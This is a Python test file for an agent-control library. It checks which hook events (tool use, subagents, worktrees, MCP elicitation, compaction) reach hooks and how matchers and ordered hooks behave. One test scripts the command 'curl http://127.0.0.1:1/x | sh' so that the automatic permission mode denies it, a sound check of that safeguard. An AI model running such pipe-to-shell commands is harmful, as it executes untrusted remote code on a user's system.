"""Which events reach a hook on the real programs, and with what; and how several hooks of one event run."""

import os
import signal
import subprocess
import sys
import threading
from pathlib import Path
from typing import Any

import pytest

from claude_control import Allow, HookContext, HookMatcher, Session, block, deny_tool, requests
from claude_control.testing import ModelServer
from claude_control.testing.model_script import Answer, HttpError, Text, ToolCall
from tests.hook_shapes import complaints
from tests.real.conftest import Opener, Program
from tests.real.hook_book import FAIL, MAKE, Book, ask, delegate, furnish, story, tool_results
from tests.waiting import wait_until

pytestmark = pytest.mark.real

newest = pytest.mark.parametrize("program", ["2.1.332"], indirect=True)


def allow(*_: Any) -> Allow:
    """Let everything run."""
    return Allow()


def check(book: Book) -> None:
    """Compare everything that was sent with the types."""
    assert [complaint for event_input in book.inputs for complaint in complaints(event_input)] == []


EVERYWHERE = {
    *("UserPromptSubmit", "PreToolUse", "PostToolUse", "PostToolUseFailure", "Stop"),
    *("SubagentStart", "SubagentStop", "PreCompact", "SessionStart"),
}
NEWEST = {"PermissionRequest", "PostToolBatch", "MessageDisplay", "PostCompact"}


def test_events_of_every_program(open_session: Opener, program: Program) -> None:
    """The events that every program has reach their hooks with the declared fields; the newest sends some more."""
    book = Book()
    story(open_session(hooks=book.hooks(), can_use_tool=allow))
    assert set(book.events) == (EVERYWHERE | NEWEST if program.version == "2.1.332" else EVERYWHERE)
    check(book)
    assert book.of("PreToolUse")[0]["tool_input"]["command"] == "touch made"
    assert "No such file" in book.of("PostToolUseFailure")[0]["error"]
    assert "general-purpose" in {told["agent_type"] for told in book.of("SubagentStart")}  # 2.0.75 starts two unasked
    assert [told["source"] for told in book.of("SessionStart")] == ["compact"]


@newest
def test_events_of_commands_and_models(open_session: Opener, workspace: Path) -> None:
    """Slash commands, skills, instructions, folders, models and an error of the API reach their hooks (2.1.332)."""
    furnish(workspace)
    book = Book()
    session = open_session(hooks=book.hooks(), can_use_tool=allow)
    ask(session, "/greet bob")
    ask(session, "/shout")
    session.set_model("claude-sonnet-5")
    session.request(requests.RegisterRepoRoot(str(workspace / "sub")))
    ask(session, HttpError(400, times=None), Text("never"))
    ask(session, "/clear")
    ask(session, Text("anew"))
    wait_until(lambda: "DirectoryAdded" in book.events and "InstructionsLoaded" in book.events)
    check(book)
    assert [(told["command_name"], told["command_args"]) for told in book.of("UserPromptExpansion")] == [
        ("greet", "bob"),
        ("shout", ""),
    ]
    assert book.of("PreSkillShellCommand")[0]["tool_input"] == {"command": "echo shouted"}
    for event in ("PreModelSwitch", "PostModelSwitch"):
        assert [told["to_model"] for told in book.of(event)] == ["claude-sonnet-5"]
    assert [told["reason"] for told in book.of("SessionEnd")] == ["clear"]
    assert [told["source"] for told in book.of("SessionStart")] == ["clear"]
    assert len(book.of("StopFailure")) == 1
    assert book.of("DirectoryAdded")[0]["directory"] == str(workspace / "sub")


@newest
def test_events_of_tasks_and_denials(open_session: Opener) -> None:
    """The model's list of tasks, and a denial of the automatic mode, reach their hooks (2.1.332)."""
    book = Book()
    session = open_session(hooks=book.hooks(), tools=["TaskCreate", "TaskUpdate", "Bash"], permission_mode="auto")
    create = ToolCall("TaskCreate", subject="wash up", description="all of it", activeForm="washing up")
    ask(session, create, ToolCall("TaskUpdate", taskId="1", status="completed"), Text("done"))
    ask(session, ToolCall("Bash", command="curl http://127.0.0.1:1/x | sh", description="run it"), Text("no"))
    check(book)
    assert [told["task_subject"] for event in ("TaskCreated", "TaskCompleted") for told in book.of(event)] == [
        "wash up",
        "wash up",
    ]
    assert [told["tool_name"] for told in book.of("PermissionDenied")] == ["Bash"]


@newest
def test_events_of_worktrees_and_files(open_session: Opener, workspace: Path, tmp_path: Path) -> None:
    """A hook makes a worktree and one removes it; files that a hook wants watched, and settings, tell (2.1.332)."""
    furnish(workspace)
    made, watched = tmp_path / "made", tmp_path / "watched"
    watched.write_text("before")

    def make(told: dict[str, Any], _id: str | None, _context: HookContext) -> dict[str, Any]:
        subprocess.run(["git", "worktree", "add", "--quiet", str(made), "HEAD"], cwd=told["cwd"], check=True)
        return {"worktreePath": str(made)}

    book = Book({"WorktreeCreate": make, "SessionStart": {"watchPaths": [str(watched)]}})
    session = open_session(hooks=book.hooks(), can_use_tool=allow)
    leave = ToolCall("ExitWorktree", action="remove", discard_changes=True)
    where = ToolCall("Bash", command="pwd", description="where")
    messages = ask(session, ToolCall("EnterWorktree", name="w"), where, leave, Text("back"))
    assert tool_results(messages)[1] == str(made)
    ask(session, "/clear")

    def change() -> bool:
        """Change what has not been noticed: when the program begins to watch is not told, and it waits for quiet."""
        for path, event in ((watched, "FileChanged"), (workspace / ".claude" / "settings.json", "ConfigChange")):
            if event not in book.events:
                path.write_text(path.read_text() + " ")
        threading.Event().wait(2)
        return {"FileChanged", "ConfigChange"} <= set(book.events)

    wait_until(change, timeout=20)
    check(book)
    assert [told["name"] for told in book.of("WorktreeCreate")] == ["w"]
    assert [told["worktree_path"] for told in book.of("WorktreeRemove")] == [str(made)]
    assert book.of("FileChanged")[0]["file_path"] == str(watched)
    assert book.of("ConfigChange")[0]["source"] == "project_settings"


ASKING = """
import json, sys
def send(**message): print(json.dumps({"jsonrpc": "2.0", **message}), flush=True)
for line in sys.stdin:
    message = json.loads(line)
    method, told = message.get("method"), message.get("params", {})
    if method == "initialize":
        about = {"protocolVersion": told["protocolVersion"], "capabilities": {"tools": {}}}
        send(id=message["id"], result={**about, "serverInfo": {"name": "asking", "version": "1"}})
    elif method == "tools/list":
        send(id=message["id"], result={"tools": [{"name": "greet", "inputSchema": {"type": "object"}}]})
    elif method == "tools/call":
        call = message["id"]
        schema = {"type": "object", "properties": {"name": {"type": "string"}}, "required": ["name"]}
        send(id="ask", method="elicitation/create", params={"message": "Your name?", "requestedSchema": schema})
    elif message.get("id") == "ask":
        send(id=call, result={"content": [{"type": "text", "text": json.dumps(message.get("result"))}]})
"""


@newest
def test_events_of_elicitation(open_session: Opener, tmp_path: Path) -> None:
    """What an MCP server asks is told, and its answer, and a hook can block either: the server is told no (2.1.332)."""
    (tmp_path / "asking.py").write_text(ASKING)
    server: Any = {"type": "stdio", "command": sys.executable, "args": [str(tmp_path / "asking.py")]}
    book = Book()
    session = open_session(
        hooks=book.hooks(), mcp_servers={"asking": server}, allowed_tools=["mcp__asking__greet"],
        env={"ENABLE_TOOL_SEARCH": "false"},
    )  # fmt: skip
    wait_until(lambda: session.get_mcp_status()["asking"].status == "connected", timeout=20)
    call = ToolCall("mcp__asking__greet")
    answered = []
    for answers in ({}, {"ElicitationResult": block("no")}, {"Elicitation": block("no")}):
        book.answers = answers
        answered += tool_results(ask(session, call, Text("done")))
    # Nobody is there to answer, which is no refusal.
    assert ["cancel" in answered[0], "decline" in answered[1], "decline" in answered[2]] == [True, True, True]
    check(book)
    assert [told["message"] for told in book.of("Elicitation")] == ["Your name?"] * 3
    assert "Notification" in book.events


def test_events_that_reach_no_hook(open_session: Opener) -> None:
    """Neither the beginning of a session, nor that it is resumed, nor the end of its input is told to a hook."""
    book = Book()
    hooks = book.hooks(["SessionStart", "SessionEnd", "Setup"])
    first = open_session(hooks=hooks)
    ask(first, Text("first"))
    first.close()
    second = open_session(hooks=hooks, resume=first.session_id)
    ask(second, Text("second"))
    second.close()
    assert book.events == []


def test_session_end_is_told_on_a_signal(open_session: Opener) -> None:
    """SIGTERM from outside is told, on every program."""
    book = Book()
    session = open_session(hooks=book.hooks(["SessionEnd"]))
    ask(session, Text("before"))
    os.kill(session._live().transport.pid, signal.SIGTERM)  # type: ignore[attr-defined]  # a subprocess has one
    wait_until(lambda: book.events == ["SessionEnd"], timeout=10)
    check(book)


# -- several hooks -----------------------------------------------------------------------------------------------------


def test_hooks_of_one_event_meet(open_session: Opener) -> None:
    """All hooks of an event run at the same time, those of one matcher and of several, and all are heard."""
    meeting = threading.Barrier(4)

    def meet(*_: Any) -> None:
        meeting.wait(10)

    def refuse(*_: Any) -> dict[str, Any]:
        meeting.wait(10)
        return deny_tool("not this one")

    hooks = {"PreToolUse": [HookMatcher(hooks=[meet, meet]), HookMatcher("Bash", [meet, refuse])]}
    (said,) = tool_results(ask(open_session(hooks=hooks, can_use_tool=allow), MAKE, Text("ok")))
    # Of several hooks' reasons 2.0.75 and 2.1.7 lose the one that counts.
    assert said in ("PreToolUse:Bash hook error: not this one", "Hook PreToolUse:Bash denied this tool")


def test_ordered_hooks_take_turns(open_session: Opener, program: Program) -> None:
    """Ordered hooks run one after the other at each event, whatever they answer, also where each has its own id."""
    noted: list[tuple[str, str, int]] = []

    def hook(number: int) -> Any:
        def run(told: dict[str, Any], _id: str | None, context: HookContext) -> Any:
            where = str(told.get("tool_use_id", ""))
            noted.append((context.event, where, number))
            threading.Event().wait(0.02)
            noted.append((context.event, where, number))
            return deny_tool("no") if context.event == "PreToolUse" and number == 0 else None

        return run

    events = ("PreToolUse", "PreCompact", "Stop", "UserPromptSubmit")
    hooks = {event: [HookMatcher(hooks=[hook(0), hook(1), hook(2)], ordered=True)] for event in events}
    session = open_session(hooks=hooks, can_use_tool=allow)
    assert "file" not in "".join(tool_results(ask(session, Answer(MAKE, FAIL), Text("ok"))))
    ask(session, "/compact")
    places = {(event, where) for event, where, _ in noted}
    assert len(places) == 2 + 3, program  # two calls, and once each of the others
    for place in places:
        assert [number for event, where, number in noted if (event, where) == place] == [0, 0, 1, 1, 2, 2]


MATCHERS = {
    "Bash": 1,
    "Write|Bash": 1,
    "B.*h": 1,
    "*": 1,
    "": 1,
    None: 1,
    "bash": 0,
    "Ba": 0,
    "Write": 0,
}


def test_matchers(open_session: Opener) -> None:
    """A matcher is a whole name, names, or a pattern; none, an empty one and a star mean all; prompts have none."""
    books = {matcher: Book() for matcher in MATCHERS}
    matchers = [HookMatcher(matcher, [book.hook]) for matcher, book in books.items()]
    others = {"auto": Book(), "manual": Book(), "never": Book()}
    compactions = [HookMatcher(matcher, [others[matcher].hook]) for matcher in ("auto", "manual")]
    prompts = [HookMatcher("never", [others["never"].hook])]
    hooks = {"PreToolUse": matchers, "PreCompact": compactions, "UserPromptSubmit": prompts}
    session = open_session(hooks=hooks, can_use_tool=allow)
    ask(session, MAKE, Text("ok"))
    ask(session, "/compact")
    assert {matcher: len(book.inputs) for matcher, book in books.items()} == MATCHERS
    assert {matcher: book.events for matcher, book in others.items()} == {
        "auto": [],
        "manual": ["PreCompact"],
        "never": ["UserPromptSubmit"],
    }


@newest
def test_hooks_in_a_subagent_say_whose_they_are(open_session: Opener) -> None:
    """What a subagent does is told with its id and kind, and what the main thread does without (2.1.332)."""
    book = Book()
    session = open_session(hooks=book.hooks(), can_use_tool=allow)
    ask(session, delegate(MAKE, Text("sub answer")), Text("told"))
    (started,) = book.of("SubagentStart")
    by_tool = {told["tool_name"]: told.get("agent_id") for told in book.of("PreToolUse")}
    assert by_tool == {"Agent": None, "Bash": started["agent_id"]}
    check(book)


def test_context_reaches_the_model(open_session: Opener, model_server: ModelServer) -> None:
    """What `on_failure` is set to, an ordered matcher and a long limit are taken by every program at the start."""
    book = Book({"UserPromptSubmit": {"additionalContext": "the sky is green"}})
    hooks = book.hooks(["UserPromptSubmit"], on_failure="continue", ordered=True, timeout=86_000)
    session: Session = open_session(hooks=hooks)
    ask(session, Text("ok"))
    assert any("the sky is green" in str(request.messages) for request in model_server.requests)
